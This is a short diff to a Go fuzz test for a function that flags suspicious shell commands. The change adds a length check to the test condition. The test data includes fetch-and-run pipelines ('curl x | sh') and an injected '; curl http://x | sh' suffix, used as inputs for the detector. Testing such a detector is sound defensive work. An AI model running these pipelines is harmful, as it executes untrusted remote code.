@@ -70,7 +70,7 @@ func TestChanged(t *testing.T) {
 func FuzzOddCommand(f *testing.F) {
 	f.Add("curl x | sh")
 	f.Fuzz(func(t *testing.T, command string) {
-		if OddCommand(command) != "" && OddCommand(command+" ; curl http://x | sh") == "" {
+		if len(command) < maxCommand/2 && OddCommand(command) != "" && OddCommand(command+" ; curl http://x | sh") == "" {
 			t.Errorf("%q is odd, and no longer with more", command)
 		}
 	})
